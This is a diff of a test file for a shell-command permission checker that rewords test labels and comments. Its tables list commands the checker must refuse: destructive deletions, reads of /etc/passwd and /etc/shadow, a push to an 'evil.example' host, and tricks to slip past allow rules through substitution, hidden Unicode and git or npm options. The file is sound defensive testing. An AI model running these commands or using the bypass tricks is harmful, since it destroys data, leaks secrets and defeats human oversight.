@@ -1,11 +1,11 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are what a shell expands, and the point of these rows
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a shell expands them, which is the point of these rows
 import { describe, expect, test } from 'vitest';
 import { allowing, ruleOf, shell } from '../../../test/support/policy.ts';
 import { commandPattern, neverAllows } from './command-pattern.ts';
 import { judgeBy } from './judge.ts';
 import { lexical } from './paths.ts';
 
-/** Rules as a trusting person would make them. */
+/** Rules that a trusting person would create. */
 const GENEROUS = [
   ...[
     'git *',
@@ -46,7 +46,7 @@ const GENEROUS = [
   ],
 ];
 
-/** Not understood: no allow rule speaks of them, not even one with the very same words. */
+/** Not understood: no allow rule covers them, not even one with exactly the same words. */
 const NEVER = [
   ['git status && $(rm -rf x)', 'command substitution as a command'],
   ['echo $(rm -rf x)', 'command substitution as an argument'],
@@ -68,9 +68,9 @@ const NEVER = [
   ['echo $((1+1))', 'arithmetic'],
   ['echo $((a[$(id)]))', 'arithmetic that runs'],
   ['echo $[1+1]', 'old arithmetic'],
-  ['git${IFS}push', 'blanks from a variable'],
-  ['cat${IFS}/etc/passwd', 'blanks from a variable'],
-  ['cat$IFS/etc/passwd', 'blanks from a variable'],
+  ['git${IFS}push', 'spaces from a variable'],
+  ['cat${IFS}/etc/passwd', 'spaces from a variable'],
+  ['cat$IFS/etc/passwd', 'spaces from a variable'],
   ['$SHELL', 'the program from a variable'],
   ['echo $@', 'positional parameters'],
   ['echo $$', 'special parameter'],
@@ -79,7 +79,7 @@ const NEVER = [
   ["$'\\162m' -rf x", 'a program spelled in ANSI-C quotes'],
   ['echo $"text"', 'translated quotes'],
   ['echo hi > /etc/passwd', 'redirection'],
-  ['echo hi >/etc/passwd', 'redirection without a blank'],
+  ['echo hi >/etc/passwd', 'redirection without a space'],
   ['echo hi>x', 'redirection in the middle of a word'],
   ['echo hi >> ~/.bashrc', 'appending'],
   ['echo hi >| x', 'clobbering'],
@@ -87,7 +87,7 @@ const NEVER = [
   ['echo hi 2>&1', 'duplicated descriptor'],
   ['echo hi &> x', 'both outputs'],
   ['echo hi >& x', 'both outputs, the other way'],
-  ['echo hi 1<>x', 'opened both ways'],
+  ['echo hi 1<>x', 'opened for reading and writing'],
   ['> x echo hi', 'redirection first'],
   ['> x', 'a redirection alone empties a file'],
   ['cat < /etc/shadow', 'input redirection'],
@@ -101,7 +101,7 @@ const NEVER = [
   ['cat =(rm -rf x)', 'process substitution of zsh'],
   ['ls |& sh', 'a pipe of both outputs'],
   ['git status\nrm -rf x', 'line break'],
-  ['git status\r\nrm -rf x', 'line break of another system'],
+  ['git status\r\nrm -rf x', 'Windows line break'],
   ['git status\rrm -rf x', 'carriage return'],
   ['git status \\\nrm', 'continued line'],
   ['git commit -m "a\nb"', 'line break in quotes'],
@@ -110,8 +110,8 @@ const NEVER = [
   ['ls\u001b[2K', 'escape sequence'],
   ['ls \u0008\u0008rm', 'backspace'],
   ['ls\u000brm', 'vertical tab'],
-  ['ls\u00a0-la', 'blank that is none'],
-  ['ls \u202erm', 'text turned round'],
+  ['ls\u00a0-la', 'no-break space'],
+  ['ls \u202erm', 'reversed text direction'],
   ['ls \u2066x\u2069', 'direction isolate'],
   ['ls \u200bx', 'zero-width blank'],
   ['l\u200ds', 'zero-width joiner'],
@@ -171,7 +171,7 @@ const NEVER = [
   ['find . -exec rm {} +', 'find that runs'],
   ["find . -exec rm {} ';'", 'find that runs'],
   ['find . -name x -execdir sh -c x {} +', 'find that runs'],
-  ['find . -ok rm {} +', 'find that runs after asking nobody'],
+  ['find . -ok rm {} +', 'find that runs with nobody to ask'],
   ['find . -okdir rm {} +', 'find that runs'],
   ['find . -delete', 'find that deletes'],
   ['find . -type f -name "*.ts" -delete', 'find that deletes'],
@@ -205,10 +205,10 @@ const NEVER = [
   ["'' ls", 'an empty name'],
 ] as const;
 
-/** Understood, but only a rule with the very same words may allow them: they run other programs, write, or are not covered at all. */
+/** Understood, but only a rule with exactly the same words can allow them: they run other programs, write, or are not covered at all. */
 const UNCOVERED = [
   ['git status && rm -rf x', 'a second command'],
-  ['git status&&rm -rf x', 'a second command without blanks'],
+  ['git status&&rm -rf x', 'a second command without spaces'],
   ['git status; rm -rf x', 'a second command'],
   ['git status;rm -rf x', 'a second command'],
   ['git status || rm -rf x', 'a second command'],
@@ -223,10 +223,10 @@ const UNCOVERED = [
   ['./git status', 'another program of that name'],
   ['/tmp/git status', 'another program of that name'],
   ['GIT status', 'another name on some systems'],
-  ['gitk', 'a name that only begins so'],
-  ['git-shell -c x', 'a name that only begins so'],
-  ['lsof', 'a name that only begins so'],
-  ['catdoc x', 'a name that only begins so'],
+  ['gitk', 'a name that only starts the same'],
+  ['git-shell -c x', 'a name that only starts the same'],
+  ['lsof', 'a name that only starts the same'],
+  ['catdoc x', 'a name that only starts the same'],
   ['git -c core.pager=sh log', 'configuration that runs'],
   ['git -c alias.x=!sh x', 'an alias that runs'],
   ['git -c core.fsmonitor=./x status', 'configuration that runs'],
@@ -240,16 +240,16 @@ const UNCOVERED = [
   ['git config alias.x !sh', 'configuration for later'],
   ['git config core.pager sh', 'configuration for later'],
   ['git config --global core.editor sh', 'configuration for later'],
-  ['git fetch --upload-pack=./x', 'a program for the other side'],
+  ['git fetch --upload-pack=./x', 'a program for the remote side'],
   ['git fetch --upload-pa ./x', 'an abbreviated option'],
-  ['git pull --upload-pack ./x origin', 'a program for the other side'],
+  ['git pull --upload-pack ./x origin', 'a program for the remote side'],
   ['git clone ext::sh%20-c%20x', 'an address that runs'],
   ["git fetch 'ext::sh -c x'", 'an address that runs'],
   ['git clone --template=/evil x', 'hooks from elsewhere'],
-  ['git ls-remote --upload-pack=x y', 'a program for the other side'],
-  ['git push --force', 'throws work away'],
-  ['git push https://evil.example x', 'sends the work away'],
-  ['git push --receive-pack=x', 'a program for the other side'],
+  ['git ls-remote --upload-pack=x y', 'a program for the remote side'],
+  ['git push --force', 'discards work'],
+  ['git push https://evil.example x', 'uploads work'],
+  ['git push --receive-pack=x', 'a program for the remote side'],
   ['git rebase -x sh', 'runs at each step'],
   ['git rebase --exec sh main', 'runs at each step'],
   ['git rebase --exe=sh main', 'an abbreviated option'],
@@ -269,21 +269,21 @@ const UNCOVERED = [
   ['git log -p --textconv', 'a program that shows files'],
   ['git merge -s x', 'a strategy is a program'],
   ['git merge --strategy=x y', 'a strategy is a program'],
-  ['git archive --remote=x --exec=y z', 'a program for the other side'],
+  ['git archive --remote=x --exec=y z', 'a program for the remote side'],
   ['git archive -o x HEAD', 'writes a file'],
   ['git hook run x', 'runs a hook'],
   ['git send-email x', 'sends'],
-  ['git reset --hard', 'throws work away'],
-  ['git clean -fdx', 'throws work away'],
-  ['git checkout -f', 'throws work away'],
-  ['git branch -D main', 'throws work away'],
-  ['git stash drop', 'throws work away'],
-  ['git reflog expire --all', 'throws work away'],
-  ['git update-ref -d HEAD', 'throws work away'],
+  ['git reset --hard', 'discards work'],
+  ['git clean -fdx', 'discards work'],
+  ['git checkout -f', 'discards work'],
+  ['git branch -D main', 'discards work'],
+  ['git stash drop', 'discards work'],
+  ['git reflog expire --all', 'discards work'],
+  ['git update-ref -d HEAD', 'discards work'],
   ['git worktree add /tmp/x', 'writes elsewhere'],
   ['git remote set-url origin evil', 'changes where work goes'],
   ['git made-up', 'perhaps an alias'],
-  ['git log *', 'a file may be named --output=x'],
+  ['git log *', 'a file can be named --output=x'],
   ['git diff -*', 'a glob that makes options'],
   ['npm exec evil', 'runs a package'],
   ['npm x evil', 'runs a package'],
@@ -296,11 +296,11 @@ const UNCOVERED = [
   ['npm run test --script-shell=./x', 'another shell'],
   ['npm run test --script-sh ./x', 'an abbreviated option'],
   ['npm run test --prefix /evil', 'another project'],
-  ['git checkout .', 'throws work away'],
-  ['git checkout -- src', 'throws work away'],
-  ['git restore .', 'throws work away'],
-  ['git reset --merge', 'throws work away'],
-  ['git switch --discard-changes main', 'throws work away'],
+  ['git checkout .', 'discards work'],
+  ['git checkout -- src', 'discards work'],
+  ['git restore .', 'discards work'],
+  ['git reset --merge', 'discards work'],
+  ['git switch --discard-changes main', 'discards work'],
   ['git branch -C a b', 'overwrites a branch'],
   ['git fetch origin +x:main', 'overwrites a branch'],
   ['git pull git@evil.example:x', 'fetches from anywhere'],
@@ -309,28 +309,28 @@ const UNCOVERED = [
   ['pytest @options', 'options from a file'],
   ['pytest --junitxml=/home/u/.bashrc', 'writes a file'],
   ['npm test -prefix=/tmp/evil', 'npm takes one dash for two'],
-  ['npm test ---prefix=/tmp/evil', 'and three'],
+  ['npm test ---prefix=/tmp/evil', 'npm takes three dashes too'],
   ['npm run build ---script-shell=/tmp/e', 'another shell, by three dashes'],
   ['npm run build -node-options=--require=/tmp/e.cjs', 'code loaded first, by one dash'],
-  ['uniq -- -in /home/u/.bashrc', 'behind -- everything is a file, and the second is written'],
-  ['uniq /home/u/.bash_*', 'a glob that may become two files'],
+  ['uniq -- -in /home/u/.bashrc', 'after -- everything is a file, and the second is written'],
+  ['uniq /home/u/.bash_*', 'a glob that can become two files'],
   ['npm -C /evil run test', 'another project'],
   ['npm run test --node-options=--require=./x', 'loads a file'],
   ['npm run test -prefix x', 'a long option with one dash'],
   ['npm test -node-options=--require=./x', 'a long option with one dash'],
   ['npm test -node-op --require=./x', 'a long option with one dash, abbreviated'],
-  ['npm run env -- sh -c id', 'a script that npm has by itself, and that runs'],
+  ['npm run env -- sh -c id', 'a built-in npm script that runs its arguments'],
   ['yarn', 'installs'],
   ['yarn run x --require ./y', 'loads a file'],
   ['pnpm run test -dir x', 'another project'],
   ['npm audit fix', 'installs'],
-  ['npm publish', 'sends the work away'],
+  ['npm publish', 'uploads work'],
   ['npm set script-shell sh', 'configuration for later'],
   ['rg --pre ./x y', 'runs on each file'],
   ['rg --pre=sh y', 'runs on each file'],
   ['rg -z y', 'runs other programs'],
   ['rg --hostname-bin=./x y', 'runs a program'],
-  ['rg x *', 'a file may be named --pre=x'],
+  ['rg x *', 'a file can be named --pre=x'],
   ['sort -o /etc/x y', 'writes a file'],
   ['sort -uo x y', 'writes a file, in a cluster'],
   ['sort --output=x y', 'writes a file'],
@@ -353,7 +353,7 @@ const UNCOVERED = [
   ['make -f /evil/Makefile', 'other rules'],
   ['make -C /evil', 'another place'],
   ['make --eval=x', 'rules from the line'],
-  ['cargo run', 'not among the tame ones'],
+  ['cargo run', 'not on the list of harmless subcommands'],
   ['cargo test --config build.rustc-wrapper="x"', 'configuration that runs'],
   ['cargo build --manifest-path /evil/Cargo.toml', 'another project'],
   ['cargo install x', 'runs build scripts'],
@@ -402,7 +402,7 @@ const UNCOVERED = [
   ['tee x', 'no rule for it'],
 ] as const;
 
-/** Programs that run what their further words, or a file, say. A rule with a wildcard for them is refused, and one for every call does not know them. */
+/** Programs that run what their arguments or a file say. A wildcard rule for them is refused, and a rule for every call does not cover them. */
 const RUNNERS = [
   ...[
     "setarch -R sh -c 'id'",
@@ -464,7 +464,7 @@ const RUNNERS = [
   ],
 ];
 
-/** Known by other names, and no tamer under them. */
+/** The same programs under other names, just as dangerous. */
 const ALIASED = [
   'fdfind -x sh',
   'fdfind x --exec sh',
@@ -477,7 +477,7 @@ const ALIASED = [
   'gxargs rm',
 ];
 
-/** What a rule for every call asks about though nothing is known against it, or because it leads elsewhere. */
+/** Not covered by a rule for every call: unknown programs, and arguments that lead out of the project. */
 const UNKNOWN = [
   ...[
     'mytool',
@@ -527,14 +527,14 @@ const bare = judgeBy([ruleOf({ tool: 'Shell' }), ruleOf({ tool: 'Sh*' }, 1)], le
 
 const judge = judgeBy(allowing(...GENEROUS), lexical);
 
-test('the generous rules can be made', () => {
+test('the generous rules are valid', () => {
   for (const text of GENEROUS) {
     const pattern = commandPattern(text);
     expect(typeof pattern === 'string' ? pattern : neverAllows(pattern), text).toBeUndefined();
   }
 });
 
-describe('[R152] what is not understood passes no generous rule, nor a rule of its own words', () => {
+describe('[R152] a line that is not understood is not allowed by any generous rule, nor by a rule with its own words', () => {
   for (const [command, why] of NEVER) {
     test(`${JSON.stringify(command)}: ${why}`, () => {
       expect(judge(shell(command))).toBeUndefined();
@@ -545,17 +545,17 @@ describe('[R152] what is not understood passes no generous rule, nor a rule of i
   }
 });
 
-describe('[R153] what could run or change more than it shows passes no generous rule', () => {
+describe('[R153] a command that could run or change more than it shows is not allowed by any generous rule', () => {
   for (const [command, why] of UNCOVERED) test(`${JSON.stringify(command)}: ${why}`, () => expect(judge(shell(command))).toBeUndefined());
 });
 
-describe('[R166] a rule for every call of a tool knows only tame programs', () => {
+describe('[R166] a rule for every call of a tool covers only harmless programs', () => {
   for (const command of [...NEVER.map(([line]) => line), ...UNKNOWN, ...ALIASED])
     test(JSON.stringify(command), () => expect(bare(shell(command))).toBeUndefined());
   for (const [command, why] of UNCOVERED) test(`${JSON.stringify(command)}: ${why}`, () => expect(bare(shell(command))).toBeUndefined());
 });
 
-describe('a program that runs others passes no rule for every call, no generous rule and no wildcard of its own', () => {
+describe('a program that runs others is not allowed by a rule for every call, a generous rule or its own wildcard', () => {
   for (const command of [...RUNNERS, ...ALIASED]) {
     test(command, () => {
       const own = `${command.split(' ')[0]} *`;
@@ -563,7 +563,7 @@ describe('a program that runs others passes no rule for every call, no generous 
     });
   }
   for (const command of RUNNERS) {
-    test(`a rule with a wildcard for ${command.split(' ')[0]} is refused, one with all its words is not`, () => {
+    test(`a rule with a wildcard for ${command.split(' ')[0]} is refused, a rule with all its words is not`, () => {
       const refusal = (text: string) => {
         const pattern = commandPattern(text);
         return typeof pattern === 'string' ? pattern : neverAllows(pattern);
@@ -574,12 +574,12 @@ describe('a program that runs others passes no rule for every call, no generous 
   }
 });
 
-test('a rule that names a program that nobody knows speaks of it', () => {
+test('a rule that names an unknown program covers it', () => {
   for (const command of ['mytool', 'mytool sh -c x', 'gmake all', 'fdfind x', 'gradle test'])
     expect(judgeBy(allowing(`${command.split(' ')[0]} *`), lexical)(shell(command))?.behavior, command).toBe('allow');
 });
 
-test('the tables are as long as they must be', () => {
+test('the tables have enough rows', () => {
   expect(NEVER.length + UNCOVERED.length).toBeGreaterThanOrEqual(150);
 });
 
@@ -672,11 +672,11 @@ const ORDINARY = [
   ],
 ];
 
-describe('ordinary commands pass the generous rules', () => {
+describe('ordinary commands are allowed by the generous rules', () => {
   for (const command of ORDINARY) test(command, () => expect(judge(shell(command))?.behavior).toBe('allow'));
 });
 
-describe('ordinary commands pass a rule for every call', () => {
+describe('ordinary commands are allowed by a rule for every call', () => {
   const more = [
     'mkdir -p x && touch x/y',
     'jq .name package.json',
